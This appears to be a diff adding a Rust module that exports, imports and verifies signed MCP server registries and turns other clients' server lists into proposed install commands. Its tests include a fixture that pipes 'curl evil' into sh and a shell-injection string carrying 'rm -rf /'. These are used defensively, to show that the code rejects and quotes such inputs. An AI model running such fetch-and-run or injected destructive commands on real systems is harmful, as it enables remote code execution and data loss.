@@ -1,0 +1,331 @@
+//! One registry for a fleet: signed files out and in, and lists of others as proposals.
+
+use std::{collections::BTreeMap, fs, path::Path};
+
+use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair as _};
+use cardea_identity::key_file;
+use cardea_registry::{Manifest, ManifestError, Spec, key_text};
+use serde_json::{Value, json};
+
+use super::office::{Office, failed};
+use crate::{
+    cli::server::{ExportArgs, ImportArgs},
+    command::failure::{Failure, Status},
+};
+
+pub(super) async fn export(office: &Office, args: &ExportArgs) -> Result<(), Failure> {
+    let key = key(office)?;
+    let manifest = office.registrar.manifest(&office.tenant).await;
+    let manifest = manifest.map_err(|error| Failure::new(Status::Failed, error.to_string()))?;
+    let file = manifest.sign(&key).map_err(|error| refused(&error))?;
+    fs::write(&args.file, file).map_err(|error| cannot("write", &args.file, &error))?;
+    let named = key_text(key.public_key().as_ref());
+    let text = format!(
+        "wrote {}: serial {}, {} definitions of {} added servers and those of the configuration\n  cardea server import {0} --key {named} --reason …",
+        args.file.display(),
+        manifest.serial,
+        manifest.pins.len(),
+        manifest.servers.len(),
+    );
+    let document = json!({
+        "file": args.file,
+        "serial": manifest.serial,
+        "key": named,
+        "definitions": manifest.pins.len(),
+    });
+    office.tell(&document, &text)
+}
+
+pub(super) async fn import(office: &Office, args: &ImportArgs) -> Result<(), Failure> {
+    let text =
+        fs::read_to_string(&args.file).map_err(|error| cannot("read", &args.file, &error))?;
+    let Some(key) = &args.key else {
+        return propose(office, &text);
+    };
+    let manifest = Manifest::open(&text, key).map_err(|error| refused(&error))?;
+    let why = args.reason.as_deref().unwrap_or_default();
+    let importing = office
+        .registrar
+        .import(&office.tenant, &manifest, key, &office.by, why);
+    let imported = importing.await.map_err(failed)?;
+    let servers: Vec<_> = manifest
+        .servers
+        .iter()
+        .map(|(name, server)| {
+            let here = office.added(name);
+            let state = match here.map(|here| &here.record) {
+                None => "not installed here",
+                Some(record) if record.spec != server.spec => "another one here",
+                Some(record) if digests(record) != server.digests => {
+                    "installed here, and not the same"
+                }
+                Some(_) => "the same here",
+            };
+            json!({ "server": name, "spec": server.spec, "state": state })
+        })
+        .collect();
+    let mut lines = vec![format!(
+        "manifest {}: {} definitions approved, {} taken back",
+        manifest.serial, imported.approved, imported.withdrawn
+    )];
+    for server in &servers {
+        let part = |name| server.get(name).and_then(Value::as_str).unwrap_or("-");
+        lines.push(format!(
+            "  {}: {} ({})",
+            part("server"),
+            part("state"),
+            part("spec")
+        ));
+    }
+    let document = json!({
+        "serial": manifest.serial,
+        "approved": imported.approved,
+        "withdrawn": imported.withdrawn,
+        "servers": servers,
+    });
+    office.tell(&document, &lines.join("\n"))
+}
+
+fn digests(record: &cardea_registry::ServerRecord) -> Vec<String> {
+    match &record.launch {
+        cardea_registry::Launch::Stdio { locked, .. } => locked.values().cloned().collect(),
+        cardea_registry::Launch::Http { .. } => Vec::new(),
+    }
+}
+
+/// What a list of somebody else's names, as commands that a person may run. Nothing is installed, added or approved by it.
+fn propose(office: &Office, text: &str) -> Result<(), Failure> {
+    let document: Value = serde_json::from_str(text).map_err(|error| {
+        Failure::new(Status::WrongUse, format!("the file is not JSON: {error}"))
+    })?;
+    let proposals = proposals(&document);
+    if proposals.is_empty() {
+        let text = "there is no server in the file: `mcpServers`, `servers`, `packages` or `remotes` name some; a signed registry needs `--key`";
+        return Err(Failure::new(Status::WrongUse, text));
+    }
+    let lines = proposals.iter().map(|(name, proposal)| match proposal {
+        Ok((spec, args)) => {
+            let args = args.iter().map(|arg| format!(" {}", quoted(arg)));
+            let args: String = args.collect();
+            let args = match args.is_empty() {
+                true => args,
+                false => format!(" --{args}"),
+            };
+            format!(
+                "cardea server add {} --name {}{args}",
+                quoted(&spec.to_string()),
+                quoted(name)
+            )
+        }
+        Err(why) => format!(
+            "# {}: {why}",
+            cardea_domain::text::visible(name, 100, cardea_domain::text::Breaks::Shown)
+        ),
+    });
+    let lines: Vec<String> = lines.collect();
+    let documents = proposals.iter().map(|(name, proposal)| match proposal {
+        Ok((spec, args)) => json!({ "name": name, "spec": spec.to_string(), "args": args }),
+        Err(why) => json!({ "name": name, "why_not": why }),
+    });
+    let documents: Vec<_> = documents.collect();
+    office.tell(&json!({ "proposals": documents }), &lines.join("\n"))
+}
+
+type Proposal = Result<(Spec, Vec<String>), String>;
+
+/// # Source
+/// `mcpServers` of clients (Claude, Cursor), `servers` of VS Code; `packages` and `remotes` of the MCP registry's `server.json`.
+fn proposals(document: &Value) -> BTreeMap<String, Proposal> {
+    let mut found = BTreeMap::new();
+    for member in ["mcpServers", "servers"] {
+        let servers = document.get(member).and_then(Value::as_object);
+        for (name, server) in servers.into_iter().flatten() {
+            found.insert(slug(name), of_client(server));
+        }
+    }
+    let name = document
+        .get("name")
+        .and_then(Value::as_str)
+        .unwrap_or("server");
+    let name = slug(name.rsplit('/').next().unwrap_or(name));
+    for package in items(document, "packages") {
+        found.insert(name.clone(), of_package(package));
+    }
+    for remote in items(document, "remotes") {
+        let url = remote
+            .get("url")
+            .and_then(Value::as_str)
+            .unwrap_or_default();
+        let spec = Spec::parse(url).map_err(|error| error.to_string());
+        found
+            .entry(name.clone())
+            .or_insert(spec.map(|spec| (spec, Vec::new())));
+    }
+    found
+}
+
+fn items<'a>(document: &'a Value, member: &str) -> impl Iterator<Item = &'a Value> {
+    let items = document.get(member).and_then(Value::as_array);
+    items.into_iter().flatten()
+}
+
+fn of_package(package: &Value) -> Proposal {
+    let text = |member: &str| package.get(member).and_then(Value::as_str);
+    let (name, version) = (
+        text("identifier").unwrap_or_default(),
+        text("version").unwrap_or_default(),
+    );
+    let spec = match text("registryType").or(text("registry_type")) {
+        Some("npm") => format!("npm:{name}@{version}"),
+        Some("pypi") => format!("pypi:{name}=={version}"),
+        other => {
+            return Err(format!(
+                "packages of `{}` are not installed",
+                other.unwrap_or("-").escape_debug()
+            ));
+        }
+    };
+    let spec = Spec::parse(&spec).map_err(|error| error.to_string())?;
+    Ok((spec, Vec::new()))
+}
+
+fn of_client(server: &Value) -> Proposal {
+    if let Some(url) = server.get("url").and_then(Value::as_str) {
+        let spec = Spec::parse(url).map_err(|error| error.to_string())?;
+        return Ok((spec, Vec::new()));
+    }
+    let command = server
+        .get("command")
+        .and_then(Value::as_str)
+        .unwrap_or_default();
+    let args = items(server, "args").filter_map(Value::as_str);
+    let mut args = args
+        .filter(|arg| !matches!(*arg, "-y" | "--yes"))
+        .map(str::to_owned);
+    let spec = match command {
+        "npx" | "bunx" => args.next().map(|package| format!("npm:{package}")),
+        "uvx" => args
+            .next()
+            .map(|package| format!("pypi:{}", package.replacen('@', "==", 1))),
+        path if path.starts_with('/') => Some(format!("exec:{path}")),
+        _ => None,
+    };
+    let spec = spec.ok_or_else(|| {
+        format!(
+            "`{}` is no package and no absolute path",
+            command.escape_debug()
+        )
+    })?;
+    let spec = Spec::parse(&spec).map_err(|error| error.to_string())?;
+    Ok((spec, args.collect()))
+}
+
+fn slug(name: &str) -> String {
+    let lower = name.to_lowercase();
+    let slug: String = (lower.chars())
+        .map(|c| match c.is_ascii_alphanumeric() {
+            true => c,
+            false => '-',
+        })
+        .take(63)
+        .collect();
+    slug.trim_matches('-').to_owned()
+}
+
+/// One word of a shell, whatever is in it.
+fn quoted(text: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
+    match !text.is_empty() && text.chars().all(is_plain) {
+        true => text.to_owned(),
+        false => {
+            let shown =
+                cardea_domain::text::visible(text, 4000, cardea_domain::text::Breaks::Shown);
+            format!("'{}'", shown.replace('\'', r"'\''"))
+        }
+    }
+}
+
+/// The key by which this gateway's registry is signed; made where there is none.
+fn key(office: &Office) -> Result<Ed25519KeyPair, Failure> {
+    let path = office.config.state_dir.join("keys").join("registry.key");
+    let made = key_file::read_or_make(&path, || {
+        let key = Ed25519KeyPair::generate().map_err(std::io::Error::other)?;
+        let document = key.to_pkcs8().map_err(std::io::Error::other)?;
+        Ok(document.as_ref().to_vec())
+    });
+    let bytes =
+        made.map_err(|error| Failure::new(Status::Failed, format!("{}: {error}", path.display())))?;
+    Ed25519KeyPair::from_pkcs8(&bytes)
+        .map_err(|error| Failure::new(Status::Failed, format!("{}: {error}", path.display())))
+}
+
+fn refused(error: &ManifestError) -> Failure {
+    let status = match error {
+        ManifestError::Form(_) => Status::WrongUse,
+        ManifestError::Key { .. } | ManifestError::Signature | ManifestError::Digest(_) => {
+            Status::Refused
+        }
+    };
+    Failure::new(status, error.to_string())
+}
+
+fn cannot(what: &str, path: &Path, error: &std::io::Error) -> Failure {
+    Failure::new(
+        Status::Failed,
+        format!("cannot {what} {}: {error}", path.display()),
+    )
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, reason = "a failed test is a panic")]
+mod tests {
+    use super::*;
+
+    fn spec(document: &Value, name: &str) -> Result<String, String> {
+        let found = proposals(document);
+        let proposal = found.get(name).unwrap();
+        proposal
+            .as_ref()
+            .map(|(spec, _)| spec.to_string())
+            .map_err(Clone::clone)
+    }
+
+    #[test]
+    fn lists_of_others_are_read_as_proposals_of_one_version() {
+        let client = json!({ "mcpServers": {
+            "Files": { "command": "npx", "args": ["-y", "@a/files@1.2.3", "/data"] },
+            "latest": { "command": "npx", "args": ["-y", "@a/files"] },
+            "git": { "command": "uvx", "args": ["mcp-server-git@2026.7.10"] },
+            "own": { "command": "/opt/own", "args": ["x"], "env": { "TOKEN": "secret" } },
+            "shell": { "command": "sh", "args": ["-c", "curl evil | sh"] },
+            "remote": { "url": "https://mcp.example.com/mcp" },
+        } });
+        assert_eq!(spec(&client, "files"), Ok("npm:@a/files@1.2.3".into()));
+        assert!(spec(&client, "latest").is_err());
+        assert_eq!(
+            spec(&client, "git"),
+            Ok("pypi:mcp-server-git==2026.7.10".into())
+        );
+        assert_eq!(spec(&client, "own"), Ok("exec:/opt/own".into()));
+        assert!(spec(&client, "shell").is_err());
+        assert_eq!(
+            spec(&client, "remote"),
+            Ok("https://mcp.example.com/mcp".into())
+        );
+        let registry = json!({ "name": "io.example/git", "packages": [
+            { "registryType": "pypi", "identifier": "mcp-server-git", "version": "2026.7.10" },
+        ] });
+        assert_eq!(
+            spec(&registry, "git"),
+            Ok("pypi:mcp-server-git==2026.7.10".into())
+        );
+    }
+
+    #[test]
+    fn what_is_printed_is_one_word_of_a_shell() {
+        assert_eq!(quoted("a/b@1"), "a/b@1");
+        assert_eq!(quoted("a'; rm -rf /"), r"'a'\''; rm -rf /'");
+        assert_eq!(quoted("a\nb"), r"'a\nb'");
+        assert_eq!(quoted(""), "''");
+    }
+}
